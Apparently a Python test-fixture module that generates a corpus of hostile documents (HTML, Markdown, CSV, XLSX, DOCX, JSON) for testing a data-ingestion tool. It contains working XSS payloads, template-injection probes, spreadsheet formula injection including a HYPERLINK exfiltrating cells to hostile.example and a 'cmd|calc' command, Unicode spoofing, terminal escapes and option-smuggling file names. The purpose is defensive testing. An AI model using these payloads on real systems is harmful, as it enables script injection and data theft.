"""Source files full of attacks, and the settings of the case that reads them. Everything in them is fictional.

Each attack that would make an element gives it the class `hostile`, each that would run sets `window.hostile`, each that would
be computed holds a product whose result stands nowhere else, and each that would ask something asks hostile.example.
"""

from __future__ import annotations

import csv
import io
import json
import zipfile
from collections.abc import Iterator
from pathlib import Path
from xml.sax.saxutils import escape

import openpyxl

RUN = "window.hostile=true"
PRODUCTS = {"7*7191": "50337", "7*9931": "69517"}

MARKUP = {
    "script": f"<script class=hostile>{RUN}</script>",
    "img": f"<img class=hostile src=x onerror={RUN}>",
    "svg": f"<svg class=hostile onload={RUN}><a xlink:href=javascript:{RUN}>x</a></svg>",
    "title_end": f"</title><script class=hostile>{RUN}</script>",
    "script_end": f"</script><script class=hostile>{RUN}</script>",
    "comment_end": f"--><!--><script class=hostile>{RUN}</script>",
    "style_end": f"</style><style class=hostile>body{{display:none}}</style><script class=hostile>{RUN}</script>",
    "cdata": f"]]><script class=hostile>{RUN}</script>",
    "double_quote": f'" class=hostile autofocus onfocus="{RUN}" x="',
    "single_quote": f"' class=hostile autofocus onfocus='{RUN}' x='",
    "backtick": f"` class=hostile autofocus onfocus={RUN} `",
    "style": "<div class=hostile style='position:fixed;inset:auto;background:url(https://hostile.example/a)'>x</div>",
    "frame": "<iframe class=hostile src=https://hostile.example/></iframe><object class=hostile data=x></object>",
    "form": "<form class=hostile action=https://hostile.example/><input name=q autofocus></form>",
    "refresh": "<meta class=hostile http-equiv=refresh content='0;url=https://hostile.example/'>",
    "base": "<base class=hostile href=https://hostile.example/>",
    "textarea": "</textarea></select></table></ul></main></body></html><img class=hostile src=x>",
    "math": f"<math class=hostile><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    "entity": f"&lt;img class=hostile src=x onerror={RUN}&gt;",
    "half": "<script class=hostile src=https://hostile.example/a.js x='",
}
LINKS = {
    "javascript": f"javascript:{RUN}",
    "mixed_case": f"JaVaScRiPt:{RUN}//https://hostile.example/",
    "tab_inside": f"java\tscript:{RUN}",
    "data": f"data:text/html,<script>{RUN}</script>",
    "protocol_relative": "//hostile.example/",
    "vbscript": "vbscript:msgbox(1)",
}
TEMPLATES = {
    "jinja": "{{7*7191}} {% for x in y %} {# gone #} {{ config }}",
    "other_templates": "${7*9931} #{x} <%= x %> [[x]]",
    "fluent": "{ $count } { -brand } { overview-sources }",
    "format": "%s %n {} {.__class__} {title} $& \\g",
    "rich": "[bold red]x[/bold red] [link=https://hostile.example/]x[/link] [/]",
}
HIDDEN = {
    "right_to_left": "invoice\u202egpj.exe \u2067abc\u2069 \u200f\u061c",
    "unclosed_override": "\u202d\u202e\u2066\u2067\u2068",
    "zero_width": "Hik\u200bvi\u2060si\ufeffon \u200d",
    "homograph": "Нikvision Ноrth\u0261ate",
    "tags": "name\U000e0041\U000e0042 \ufff9a\ufffab\ufffb",
    "separators": "line\u2028line\u2029line\x85line",
    "combining": "Z" + "\u0310\u0322" * 40,
}
TERMINAL = {
    "ansi": "\x1b[2J\x1b[31mred\x1b[0m \x1b]0;hostile\x07 \x1b]8;;https://hostile.example/\x1b\\link\x1b]8;;\x1b\\",
    "c1": "\x9b31mred \x9d0;hostile\x9c",
    "clipboard": "\x1b]52;c;aG9zdGlsZQ==\x07",
    "backspace": "good\b\b\b\bevil\rgone \x7f",
    "nul": "be\x00fore",
}
FORMULAS = {
    "equals": '=HYPERLINK("https://hostile.example/?"&A:A,"open")',
    "plus": "+cmd|calc!A",
    "minus": "-cmd|' /C calc'!A",
    "at": "@SUM(A:A)",
    "tab": "\t=SUM(A:A)",
    "return": "\r=SUM(A:A)",
    "line": "\n=SUM(A:A)",
    "wide": "＝SUM(A:A)",
}
LONG = {"long": "W" * 4_000, "long_markup": "<b class=hostile>" * 200}
EVERYTHING = MARKUP | LINKS | TEMPLATES | HIDDEN | TERMINAL | FORMULAS | LONG
_AT_ONCE = 4


def mix_attacks(attacks: dict[str, str] = EVERYTHING) -> list[str]:
    """Every attack once, four to a value, of different sorts; formulas stand first, where a spreadsheet runs them."""
    values = sorted(attacks.values(), key=lambda attack: attack not in FORMULAS.values())
    count = -(-len(values) // _AT_ONCE)
    return [" ".join(values[start::count]) for start in range(count)]


# Fictional people, whose names and numbers (of ranges kept free for stories) are cut by what is not seen.
CONTACTS = (
    "Contact\u200b person: Ada\u2060 Fictional",
    "e-mail ada.fict\u00adional@example\u200b.org",
    "Tel: +44 20\u200b 7946\u202e 0958",
    "mobile 138\u200b0013\u200d8000",
    "联系人：虚\u200b构人",
)
PERSONAL = ("Fictional", "ada.fictional", "79460958", "13800138000", "虚构人")

CASE_TITLE = f"{MARKUP['title_end']} {{{{7*7191}}}} { {'x': 1} } \u202e{MARKUP['double_quote']}"
PUBLISHER = f"{MARKUP['img']}{MARKUP['double_quote']}{{{{7*7191}}}}\u202e"
LICENCE = f"=1+1 {MARKUP['script_end']}\u2066"

SETTINGS = """
[[tables]]
files = ["*contracts*"]
kind = "award"
country = "FR"
currency = "EUR"
[tables.columns]
native_id = "id"
reference = "reference"
title = "title"
status = "status"
procedure = "procedure"
description = "text"
buyer = "buyer"
supplier = "supplier"
supplier_id = "supplier id"
project_place = "place"
award_amount = "amount"
published_at = "published"
award_date = "awarded"
lot = "lot"
lot_title = "lot title"
classification = "code"

[[tables]]
files = ["*camera-list*"]
kind = "cameras"
series = "<img class=hostile src=x>"
country = "IS"
[tables.columns]
native_id = "id"
label = "label"
lat = "lat"
lon = "lon"
operator = "operator"
manufacturer = "manufacturer"
model = "model"
place = "place"
camera_type = "type"
zone = "zone"
started_at = "since"
"""

# Names of files as a case would be handed them; a NUL and '/' cannot stand in one.
NAMES = (
    "<img class=hostile src=x onerror=window.hostile=true>.txt",
    '" class=hostile autofocus onfocus=window.hostile=true x=".html',
    '=HYPERLINK("hostile.example").md',
    "{{7*7191}} { $x } {% if %} --><script class=hostile>.json",
    "invoice\u202egpj.csv-contracts.csv",
    "\x1b[31m\x1b]0;hostile\x07contracts.xlsx",
    "camera-list \u202e '+alert(1)+' \x1b[31m.csv",
    "javascript:window.hostile=true.geojson",
    "@cameras.json",
    "-rf report.docx",
    "line\nbreak \x9b31m.txt",
    "vulnerabilities-known.json",
)


def write_corpus(folder: Path) -> list[Path]:
    """Writes every hostile file into the new `folder`; their paths."""
    folder.mkdir()
    makers = (_text, _html, _markdown, _releases, _contracts, _workbook, _camera_list, _features, _overpass, _docx,
              _sums, _weaknesses)  # fmt: skip
    paths = []
    for name, make in zip(NAMES, makers, strict=True):
        content = make()
        path = folder / name
        path.write_bytes(content.encode("utf-8") if isinstance(content, str) else content)
        paths.append(path)
    return paths


def _compare(number: int) -> str:
    """A sentence that documents contradict each other in."""
    return f"The town of Northgate {MARKUP['img']} has {number} cameras {MARKUP['script_end']}."


def _sentences() -> Iterator[str]:
    """A contradiction around each attack, so that claims, quotes and findings hold it."""
    for number, attack in enumerate(mix_attacks(), start=1):
        yield f"A total of {500 + number} {attack} cameras were bought, of which {509 + number} {attack} cameras read faces."


def _text() -> str:
    return "\n\n".join([_compare(25), *_sentences(), *CONTACTS]) + "\n"


def _sums() -> str:
    return "\n".join([*(f"{attack} face recognition" for attack in mix_attacks()), ""])


def _html() -> str:
    shown = "".join(
        f"<p title={attack!r}>{escape(attack)} The town has cameras.</p>{attack if attack.startswith('<') else ''}"
        for attack in MARKUP.values()
    )
    links = "".join(f'<li><a href="{escape(link)}">{escape(link)}</a>' for link in LINKS.values())
    title, language = escape(MARKUP["title_end"]), escape(MARKUP["double_quote"], {'"': "&quot;"})
    return (
        f'<!doctype html><html lang="{language}"><title>{title} {TEMPLATES["jinja"]}\u202e</title>'
        f'<meta name=author content="{language}"><meta property="article:published_time" content="&lt;script class=hostile&gt;">'
        f"<h1>{escape(MARKUP['img'])}</h1><ul>{links}</ul>{shown}<p>{escape(_compare(31))}</html>"
    )


def _markdown() -> str:
    parts = [f"# {MARKUP['img']} {TEMPLATES['jinja']}"]
    parts += [f"[a link]({link}) ![a picture]({link}) <{link}>" for link in LINKS.values()]
    parts += [f"## {attack}\n\nThe town {attack}" for attack in (MARKUP | FORMULAS | TERMINAL).values()]
    rows = "\n".join(
        f"| {attack} | 5 |" for attack in (MARKUP["img"], MARKUP["title_end"], MARKUP["double_quote"])
    )
    return (
        "\n\n".join([*parts, f"| district | cameras |\n| --- | --- |\n{rows}\n| total | 7 |", _compare(32)])
        + "\n"
    )


def _releases() -> str:
    attacks = mix_attacks()
    releases = [_release(number, attack, attacks[number - 1]) for number, attack in enumerate(attacks)]
    # The whole corpus at once: one value after the other in every field.
    releases.append(_release(900, " ".join(attacks), "".join(attacks)))
    package = {
        "uri": LINKS["javascript"],
        "version": "1.1",
        "publisher": {"name": PUBLISHER},
        "license": LINKS["data"],
    }
    return json.dumps({**package, "releases": releases})


def _release(number: int, attack: str, other: str) -> dict[str, object]:
    party = {"id": f"P{number} {attack}", "name": f"{attack} Company {number}"}
    buyer = {"id": f"B{number}", "name": f"City {attack} Council"}
    address = {"locality": attack, "region": other, "countryName": attack, "streetAddress": attack}
    identifier = {"scheme": attack[:40], "id": attack, "legalName": other, "uri": LINKS["javascript"]}
    return {
        "ocid": f"ocds-hostile-{number} {attack}",
        "id": f"{number} {attack}",
        "date": "2021-06-10T12:00:00Z" if number % 4 else attack,
        "language": "en" if number % 5 else attack,
        "tag": ["tender", "award", "contract", attack],
        "initiationType": "tender",
        "buyer": buyer,
        "parties": [
            {**buyer, "roles": ["buyer"], "identifier": identifier, "address": address},
            {**party, "roles": ["supplier", attack], "identifier": identifier, "address": address},
        ],
        "tender": {
            "id": f"T{number}",
            "title": f"{attack} street cameras with face recognition {other}",
            "description": f"{attack} 120 Hikvision DS-2CD2142FWD-I {other} with face recognition. {CONTACTS[number % 5]}",
            "status": attack,
            "procurementMethod": attack,
            "procurementMethodDetails": attack,
            "mainProcurementCategory": attack,
            "value": {"amount": 1000 + number, "currency": "EUR" if number % 3 else attack},
            "tenderPeriod": {"startDate": attack, "endDate": "2021-04-12T12:00:00Z"},
            "items": [{"id": attack, "description": attack, "classification": {"scheme": "CPV", "id": attack}}],
            "lots": [{"id": f"L {attack}", "title": attack}],
            "documents": [{"id": "1", "title": attack, "url": LINKS["javascript"]}],
        },
        "awards": [
            {"id": f"A {attack}", "title": attack, "status": attack, "date": "2021-06-01T00:00:00Z",
             "value": {"amount": 90_000 + number, "currency": "EUR"}, "suppliers": [party]}
        ],
    }  # fmt: skip


def _rows() -> Iterator[list[str]]:
    yield ["id", "reference", "title", "status", "procedure", "text", "buyer", "supplier", "supplier id", "place", "amount",
           "published", "awarded", "lot", "lot title", "code"]  # fmt: skip
    for number, attack in enumerate(mix_attacks(FORMULAS | LINKS | HIDDEN | MARKUP)):
        yield [f"{attack} {number}", attack, f"{attack} cameras", attack, attack, f"{attack} face recognition", attack,
               f"{attack} Company Ltd", attack, attack, f"{9000 + number}", "2022-05-01" if number % 3 else attack, attack,
               f"{attack} {number}", attack, attack]  # fmt: skip


def _contracts() -> str:
    return _write_csv(_rows())


def _workbook() -> bytes:
    book = openpyxl.Workbook()
    book.active.title = "<img class=hostile\u202e"
    illegal = dict.fromkeys(range(32))
    for number, row in enumerate(_rows()):
        if number < 4:
            book.active.append([f"x {cell}".translate(illegal) if number else cell for cell in row])
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def _camera_list() -> str:
    def rows() -> Iterator[list[str]]:
        yield [
            "id",
            "label",
            "lat",
            "lon",
            "operator",
            "manufacturer",
            "model",
            "place",
            "type",
            "zone",
            "since",
        ]
        for number, attack in enumerate(mix_attacks()):
            yield [f"{number} {attack}", attack, f"{64.5 + number / 500:.4f}", "-18.2", attack, attack,
                   f"DS-2CD2142FWD-I {attack}", attack, attack, attack, "2020" if number % 3 else attack]  # fmt: skip

    return _write_csv(rows())


def _tags(attack: str) -> dict[str, str]:
    maker = attack if len(attack) % 2 else "Hikvision"
    keys = ("name", "operator", "model", "camera:type", "camera:mount", "surveillance", "surveillance:zone", "surveillance:type",
            "start_date", "check_date", "note", "description", "website", "contact:webcam", "ref", "direction", "height")  # fmt: skip
    return {"man_made": "surveillance", "manufacturer": maker, **dict.fromkeys(keys, attack), attack: "x"}


def _features() -> str:
    features = [
        {
            "type": "Feature",
            "id": f"{number} {attack}",
            "geometry": {"type": "Point", "coordinates": [-19.5, 64.5 + number / 500]},
            "properties": _tags(attack),
        }
        for number, attack in enumerate(mix_attacks())
    ]
    return json.dumps({"type": "FeatureCollection", "name": MARKUP["img"], "features": features})


def _overpass() -> str:
    elements = [
        {"type": "node", "id": 9_000 + number, "lat": 64.5 + number / 500, "lon": -17.5, "user": attack, "timestamp": attack,
         "version": 1, "tags": _tags(attack)}
        for number, attack in enumerate(mix_attacks(MARKUP | TEMPLATES | FORMULAS))
    ]  # fmt: skip
    meta = {"timestamp_osm_base": "2024-01-01T00:00:00Z", "copyright": MARKUP["script"]}
    return json.dumps({"version": 0.6, "generator": MARKUP["img"], "osm3s": meta, "elements": elements})


def _docx() -> bytes:
    allowed = [attack for attack in EVERYTHING.values() if all(c >= " " or c in "\t\n" for c in attack)]
    words = [*(f"{attack} The town has cameras." for attack in allowed), _compare(33)]
    paragraphs = "".join(f"<w:p><w:r><w:t>{escape(text)}</w:t></w:r></w:p>" for text in words)
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    package = "http://schemas.openxmlformats.org/package/2006"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    title = escape(MARKUP["title_end"] + TEMPLATES["jinja"])
    parts = {
        "[Content_Types].xml": (
            f'<Types xmlns="{package}/content-types"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
            'ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType='
            '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{package}/relationships"><Relationship Id="a" Type="{office}/officeDocument" '
            f'Target="word/document.xml"/><Relationship Id="b" Type="{package}/relationships/metadata/core-properties" '
            'Target="docProps/core.xml"/></Relationships>'
        ),
        "docProps/core.xml": (
            f'<cp:coreProperties xmlns:cp="{package}/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
            f"<dc:title>{title}</dc:title><dc:creator>{title}</dc:creator></cp:coreProperties>"
        ),
        "word/document.xml": f'<w:document xmlns:w="{word}"><w:body>{paragraphs}</w:body></w:document>',
    }
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as bundle:
        for name, content in parts.items():
            bundle.writestr(name, content)
    return stream.getvalue()


def _weaknesses() -> str:
    attacks = mix_attacks(MARKUP | TEMPLATES | HIDDEN | TERMINAL)
    entries = [
        {"cveID": f"CVE-2021-9{number:04}", "cwes": [attack, "CWE-78"], "dateAdded": "2022-01-10", "dueDate": attack,
         "knownRansomwareCampaignUse": attack, "notes": LINKS["javascript"], "product": attack, "requiredAction": attack,
         "shortDescription": f"{attack} in some Hikvision camera {attack}", "vendorProject": f"Hikvision {attack}",
         "vulnerabilityName": attack}
        for number, attack in enumerate(attacks)
    ]  # fmt: skip
    return json.dumps(
        {"catalogVersion": "2025.08.25", "count": len(entries), "dateReleased": "2025-08-25T17:04:19.9796Z",
         "title": "CISA Catalog of Known Exploited Vulnerabilities", "vulnerabilities": entries}
    )  # fmt: skip


def _write_csv(rows: Iterator[list[str]]) -> str:
    stream = io.StringIO(newline="")
    csv.writer(stream, lineterminator="\n").writerows(rows)
    return stream.getvalue()
